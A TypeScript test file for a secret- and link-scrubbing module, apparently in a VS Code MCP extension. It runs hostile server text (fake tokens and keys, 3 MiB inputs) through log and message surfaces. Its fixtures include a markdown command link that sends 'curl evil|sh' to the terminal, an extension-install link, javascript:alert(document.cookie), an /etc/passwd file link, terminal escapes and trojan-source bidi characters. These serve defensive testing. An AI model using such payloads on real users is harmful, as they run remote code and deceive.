// A hostile server, authorization server or library against every text surface: what it echoes
// (tokens, keys, bodies, configs), what it smuggles (markdown command links, terminal escapes, bidi
// and zero-width characters) and how much of it (3 MiB). For every input and every surface:
// no secret remains, nothing clickable or invisible remains, and the length stays within the cap.
import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { DETAIL_MAX, LOG_MAX, MESSAGE_MAX, scrubber } from '../../src/core/scrub';

const MiB = 1024 * 1024;
const JWS = 'eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJhbGljZSIsImF1ZCI6Im1jcCJ9.c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU';
const JWS2 = 'eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2In0.eyJodG0iOiJQT1NUIiwiaHR1IjoiaHR0cHM6Ly9hIn0.ZHBvcC1zaWduYXR1cmUtdmFsdWU';
const JWE = 'eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..48V1_ALb6US04U3b.5eym8TW_c8SuK0ltJ3rpYIzOeDQz7TALvtu6UG9oMo4vpzs9tX.XFBoMYUZodetZdvTiFvSkQ';
const AT = 'at-7Hq2Lr9XwVb3NcMz8KpQ';
const AT2 = 'at2-Zx81Qw72Er63Ty54';
const RT = 'rt-Pq0Wo9Ei8Ru7Ty6Yu5';
const CS = 'cs-Mn4Bv5Cx6Zl7Kj8Hg9';
const CODE = 'SplxlOBeZQQYbYS6WxSbIA';
const VERIFIER = 'dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';
const APIKEY = 'k-3d9f0a7c1b2e4f6a';
const SID = 's%3A9f8e7d6c5b4a.Q1w2E3r4';
const XT = 'xt-a1b2c3d4e5f6';
const PW = 'Tr0ub4dor-and-3';
const GHP = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';
const GHP2 = 'ghp_ZYXWVUTSRQponmlkjihg9876543210ZYXW';
const SKPROJ = 'sk-proj-Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56';
const SKANT = 'sk-ant-api03-AbCdEf0123456789AbCdEf0123456789-QrSt';
const VENDOR = {
  slack: 'xoxb-1234567890-0987654321-AbCdEfGhIjKl',
  gitlab: 'glpat-Ab1Cd2Ef3Gh4Ij5Kl6Mn7',
  aws: 'AKIAIOSFODNN7EXAMPLE',
  google: 'AIzaSyD-0123456789abcdefghijklmnopqrst',
  stripe: 'sk_live_51H8abcdefghij0123456789',
  npm: 'npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789',
  hf: 'hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567',
};
const PEM_BODY = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';
const JWK_D = 'ZnUpY0hV7sLZSgVEs2TTfw3tMlGm7rROdoF1';
const REMEMBERED = 'tenant key: blue-Whale-42!';
scrubber.remember(REMEMBERED);

interface Hostile {
  name: string;
  text: string;
  /** Substrings no surface may show. */
  secrets: string[];
}

const tables: Record<string, Hostile[]> = {
  'secrets-in-text': [
    { name: 'echoed JWT', text: `401 Unauthorized: invalid token ${JWS} for https://mcp.example/mcp`, secrets: [JWS, JWS.split('.')[1]] },
    { name: 'echoed JWE', text: `token ${JWE} could not be decrypted`, secrets: [JWE.split('.')[3]] },
    {
      name: 'token response body',
      text: `token endpoint returned 200: {"access_token":"${AT}","refresh_token":"${RT}","id_token":"${JWS}","token_type":"Bearer"}`,
      secrets: [AT, RT, JWS],
    },
    { name: 'pretty JSON body', text: `{\n  "access_token": "${AT}",\n  "expires_in": 3600,\n  "client_secret": "${CS}"\n}`, secrets: [AT, CS] },
    { name: 'JSON inside a JSON string', text: `{"error":"upstream said {\\"access_token\\":\\"${AT2}\\"}"}`, secrets: [AT2] },
    { name: 'YAML config dump', text: `auth:\n  client_secret: ${CS}\n  refresh_token: ${RT}\n  password: "${PW}"`, secrets: [CS, RT, PW] },
    { name: 'env file', text: `export GITHUB_TOKEN=${GHP}\nOPENAI_API_KEY=${SKPROJ}\nDB_PASSWORD='${PW}'`, secrets: [GHP, SKPROJ, PW] },
    { name: 'camelCase repr', text: `{ accessToken: '${AT}', refreshToken: '${RT}', clientSecret: "${CS}", apiKey: '${APIKEY}' }`, secrets: [AT, RT, CS, APIKEY] },
    { name: 'callback query', text: `redirected to http://127.0.0.1:33418/callback?code=${CODE}&state=s1`, secrets: [CODE] },
    {
      name: 'token request form',
      text: `POST /token grant_type=authorization_code&code=${CODE}&code_verifier=${VERIFIER}&client_secret=${encodeURIComponent(CS)}`,
      secrets: [CODE, VERIFIER, CS],
    },
    {
      name: 'header dump',
      text: `request headers: {"authorization":"Bearer ${AT}","x-api-key":"${APIKEY}","cookie":"sid=${SID}"}`,
      secrets: [AT, APIKEY, SID],
    },
    { name: 'raw header lines', text: `Authorization: DPoP ${JWS}\r\nDPoP: ${JWS2}\r\nX-Auth-Token: ${XT}\r\nCookie: sid=${SID}; theme=dark`, secrets: [JWS, JWS2, XT, SID] },
    { name: 'keys in prose', text: `git push failed: remote: invalid credentials ${GHP}; also tried ${SKANT}`, secrets: [GHP, SKANT] },
    { name: 'vendor tokens', text: Object.values(VENDOR).join(' and '), secrets: Object.values(VENDOR) },
    { name: 'PEM private key', text: `key:\n-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY}\n-----END RSA PRIVATE KEY-----\n`, secrets: [PEM_BODY] },
    { name: 'PEM cut off', text: `failed to parse -----BEGIN PRIVATE KEY-----\\n${PEM_BODY}`, secrets: [PEM_BODY] },
    { name: 'JWK private key', text: `{"keys":[{"kty":"EC","crv":"P-256","x":"f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU","d":"${JWK_D}"}]}`, secrets: [JWK_D] },
    {
      name: 'keys in URL paths',
      text: `GET https://mcp.example/v1/9f86d081884c7d659a2feaa0c55ad015/mcp failed, then https://mcp.example/3f2c8e1a-7b4d-4c9e-a1f0-5d6b7c8e9f01/sse and wss://x.example/k/Zk3qL9xWv2Rt8YpN4mBc7Hs/ws`,
      secrets: ['9f86d081884c7d65', '3f2c8e1a-7b4d', 'Zk3qL9xWv2Rt'],
    },
    { name: 'URL userinfo', text: `fetch https://admin:${PW}@internal.example/mcp failed`, secrets: [PW, `admin:${PW}`] },
    {
      name: 'remembered value, plain and encoded',
      text: `got ${REMEMBERED} / ${encodeURIComponent(REMEMBERED)} / ${Buffer.from(REMEMBERED).toString('base64')}`,
      secrets: [REMEMBERED, encodeURIComponent(REMEMBERED), Buffer.from(REMEMBERED).toString('base64').slice(0, -2)],
    },
    { name: 'secret split by invisible characters', text: `Bear\u200Ber ${AT.slice(0, 8)}\u2066${AT.slice(8)} and ${GHP.slice(0, 10)}\uFEFF${GHP.slice(10)}`, secrets: [AT, GHP] },
    { name: 'escaped stderr', text: `{"stderr":"warn\\nAPI_KEY=${APIKEY}\\ntoken: ${XT}\\n"}`, secrets: [APIKEY, XT] },
    {
      name: 'secret straddling the input cap',
      text: `password=${'p'.repeat(MESSAGE_MAX * 4 - 30)} ${GHP2} tail`,
      secrets: [GHP2, GHP2.slice(0, 16), 'p'.repeat(20)],
    },
  ],
  markdown: [
    { name: 'terminal sendSequence link', text: '[Click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)', secrets: [] },
    { name: 'link with title', text: 'Server says: [Update now](command:workbench.extensions.installExtension?%5B%22evil.ext%22%5D "Install")', secrets: [] },
    { name: 'image link', text: '![img](command:workbench.action.openSettings)', secrets: [] },
    { name: 'https and file links', text: '[docs](https://evil.example "t") and [x](file:///etc/passwd)', secrets: [] },
    { name: 'autolinks', text: '<command:workbench.action.openSettings> <https://evil.example> <vscode://evil.ext/x>', secrets: [] },
    { name: 'bare schemes', text: 'javascript:alert(document.cookie) vscode-insiders://evil.ext COMMAND:x File:///c:/x', secrets: [] },
    { name: 'zero-width between bracket and paren', text: '[Click]\u200B(command:x) [Click](comm\u200Dand:x)', secrets: [] },
    { name: 'newline between bracket and paren', text: '[Click]\n(command:x)', secrets: [] },
    { name: 'bidi and ANSI inside a link', text: '[a\u202E]\x1b[0m(command:x) [b](\u2066command:y)', secrets: [] },
    { name: 'nested links', text: '[[a](command:x)](command:y)', secrets: [] },
    { name: 'angle-bracket target', text: '[a](<command:x>)', secrets: [] },
    { name: 'HTML anchor', text: '<a href="command:workbench.action.openSettings">open</a>', secrets: [] },
    { name: 'link cut by the cap', text: `${'z'.repeat(MESSAGE_MAX - 3)} [a](command:x) ${'w '.repeat(5000)} command:y`, secrets: [] },
    { name: 'many links', text: '[c](command:x)'.repeat(1000), secrets: [] },
  ],
  controls: [
    { name: 'ANSI colours', text: '\x1b[31mERROR\x1b[0m \x1b[2J\x1b[Hcleared', secrets: [] },
    { name: 'OSC 8 hyperlink', text: '\x1b]8;;command:workbench.action.openSettings\x07click\x1b]8;;\x07', secrets: [] },
    { name: 'OSC title', text: '\x1b]0;fake title\x1b\\after', secrets: [] },
    { name: 'trojan source bidi', text: 'access_level = "user\u202E \u2066// admin\u2069 \u2066"', secrets: [] },
    { name: 'carriage return overwrite', text: `ok\rFAKE: signed in\r\nnext\u2028line\u2029end\u0085nel`, secrets: [] },
    { name: 'C0 and C1 controls', text: 'a\u0000b\u0007c\u0008d\u001be\u007ff\u0080g\u009bh\u009fi', secrets: [] },
    { name: 'zero-width and tag characters', text: 'in\u200Bvis\u200Cible\u200D\uFEFF\u2060\u{E0049}\u{E0067}\u{E006E}', secrets: [] },
    { name: 'lone surrogates', text: 'a\uD83Db\uDE00c', secrets: [] },
  ],
  huge: [
    { name: '3 MiB of a', text: 'a'.repeat(3 * MiB), secrets: [] },
    { name: '3 MiB of [', text: '['.repeat(3 * MiB), secrets: [] },
    { name: '3 MiB of eyJ', text: 'eyJ'.repeat(MiB), secrets: ['eyJeyJeyJeyJ'] },
    { name: '3 MiB of JWT-ish segments', text: 'eyJabcdef.'.repeat((3 * MiB) / 10), secrets: ['eyJabcdef.eyJ'] },
    { name: '3 MiB of command links', text: '[c](command:x)'.repeat((3 * MiB) / 14), secrets: [] },
    { name: '3 MiB bearer token', text: `Authorization: Bearer ${'A1'.repeat(1.5 * MiB)}`, secrets: ['A1A1A1A1'] },
    { name: '3 MiB body after a token', text: `{"access_token":"${AT}","pad":"${'x'.repeat(3 * MiB)}"}`, secrets: [AT] },
    { name: '3 MiB of pairs', text: 'a:'.repeat(1.5 * MiB), secrets: [] },
    { name: '3 MiB of secret pairs', text: `code=${'code='.repeat(0.6 * MiB)}`, secrets: [] },
    { name: '3 MiB of ANSI starts', text: '\x1b['.repeat(1.5 * MiB), secrets: [] },
    { name: '3 MiB of URL starts', text: 'a://'.repeat(0.75 * MiB), secrets: [] },
    { name: '3 MiB of PEM headers', text: '-----BEGIN PRIVATE KEY-----'.repeat(MiB / 9), secrets: [] },
    { name: '3 MiB of emoji', text: '😀'.repeat(1.5 * MiB), secrets: [] },
  ],
};

const surfaces: Array<{ name: string; scrub: (t: string) => string; max: number; display: boolean }> = [
  { name: 'log', scrub: (t) => scrubber.log(t), max: LOG_MAX, display: false },
  { name: 'message', scrub: (t) => scrubber.message(t), max: MESSAGE_MAX, display: true },
  { name: 'detail', scrub: (t) => scrubber.detail(t), max: DETAIL_MAX, display: true },
];

/** VS Code's own notification link syntax (`base/common/linkedText.ts`), plus what other renderers link. */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const CLICKABLE: RegExp[] = [VSCODE_LINK, /\]\(/, /<[A-Za-z][A-Za-z0-9+.-]*:/, /(?<![A-Za-z0-9+.-])(?:command|vscode[A-Za-z-]*|javascript|file):\S/i];
const INVISIBLE =
  // eslint-disable-next-line no-control-regex -- control characters are what this test looks for.
  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/u;

const count = { outputs: 0, secretsSeen: 0, reflections: 0, overCap: 0 };

after(() => {
  const sizes = Object.entries(tables).map(([category, rows]) => `${category} ${rows.length}`);
  console.log(
    `security[scrub]: ${sizes.join(', ')} hostile inputs on ${surfaces.length} surfaces (${count.outputs} outputs), secrets seen ${count.secretsSeen}, reflections ${count.reflections}, over cap ${count.overCap}`,
  );
  assert.deepEqual({ secretsSeen: count.secretsSeen, reflections: count.reflections, overCap: count.overCap }, { secretsSeen: 0, reflections: 0, overCap: 0 });
});

for (const [category, rows] of Object.entries(tables)) {
  describe(`scrubber against ${category}`, () => {
    for (const hostile of rows) {
      it(hostile.name, () => {
        for (const surface of surfaces) {
          const out = surface.scrub(hostile.text);
          count.outputs += 1;
          const seen = hostile.secrets.filter((secret) => out.includes(secret));
          const reflected = [...(surface.display ? CLICKABLE : []), INVISIBLE].filter((pattern) => pattern.test(out));
          if (!surface.display && /[\r\u2028\u2029]/.test(out)) reflected.push(/[\r\u2028\u2029]/);
          if (surface.name === 'message' && /[\n\t]/.test(out)) reflected.push(/[\n\t]/);
          count.secretsSeen += seen.length;
          count.reflections += reflected.length;
          if (out.length > surface.max) count.overCap += 1;
          assert.deepEqual(seen, [], `${surface.name} shows a secret`);
          assert.deepEqual(reflected.map(String), [], `${surface.name} keeps something clickable or invisible: ${JSON.stringify(out.slice(0, 200))}`);
          assert.ok(out.length <= surface.max, `${surface.name} is ${out.length} long`);
        }
      });
    }
  });
}
